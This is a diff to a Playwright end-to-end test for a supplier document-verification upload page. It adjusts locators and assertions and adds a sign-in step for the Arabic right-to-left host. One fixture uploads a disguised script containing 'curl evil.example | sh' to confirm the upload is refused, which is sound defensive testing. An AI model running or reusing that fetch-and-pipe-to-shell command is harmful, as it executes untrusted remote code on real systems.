@@ -33,7 +33,7 @@ test.describe("verification evidence", () => {
     await form.getByLabel("Document type").selectOption("business_licence");
 
     // A script renamed .jpg is refused with a clear message, and nothing is listed.
-    await form.getByLabel("File", { exact: true }).setInputFiles({
+    await form.getByLabel(/^File/).setInputFiles({
       name: "licence.jpg",
       mimeType: "image/jpeg",
       buffer: Buffer.from("#!/bin/sh\ncurl evil.example | sh\n"),
@@ -44,7 +44,7 @@ test.describe("verification evidence", () => {
 
     await form.getByLabel("Document type").selectOption("business_licence");
     await form.getByLabel("Expiry date (if any)").fill("2030-06-30");
-    await form.getByLabel("File", { exact: true }).setInputFiles({
+    await form.getByLabel(/^File/).setInputFiles({
       name: "licence.pdf",
       mimeType: "application/pdf",
       buffer: PDF,
@@ -93,7 +93,11 @@ test.describe("verification evidence", () => {
     await expect(page.getByText("Verified", { exact: true }).first()).toBeVisible();
     const section = page.getByTestId("verified-section");
     await expect(section.getByRole("heading", { name: "Verified" })).toBeVisible();
-    await expect(section).toContainText(/Business licence checked on .+, valid until 30 Jun 2030/);
+    await expect(section).toContainText(/Business licence checked on .+, valid until .*2030/);
+    // Nothing overflows sideways on a phone.
+    expect(
+      await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth),
+    ).toBeLessThanOrEqual(0);
     await testInfo.attach("storefront", {
       body: await page.screenshot({ fullPage: true }),
       contentType: "image/png",
@@ -101,7 +105,12 @@ test.describe("verification evidence", () => {
 
     // The same in Arabic, right to left.
     const arabic = baseURL!.replace("localhost", "ar.localhost");
-    await page.goto(`${arabic}/supplier/company/verification`);
+    // Another language is another host; the session cookie does not follow, so sign in there.
+    await page.goto(`${arabic}/login?returnUrl=%2Fsupplier%2Fcompany%2Fverification`);
+    await page.locator('input[name="email"]').fill(supplier.email);
+    await page.locator('input[name="password"]').fill(PASSWORD);
+    await page.locator('input[name="password"]').press("Enter");
+    await page.waitForURL((url) => url.pathname === "/supplier/company/verification");
     await expect(page.locator("html")).toHaveAttribute("dir", "rtl");
     await expect(page.getByRole("heading", { level: 1, name: "مستندات التوثيق" })).toBeVisible();
     await expect(
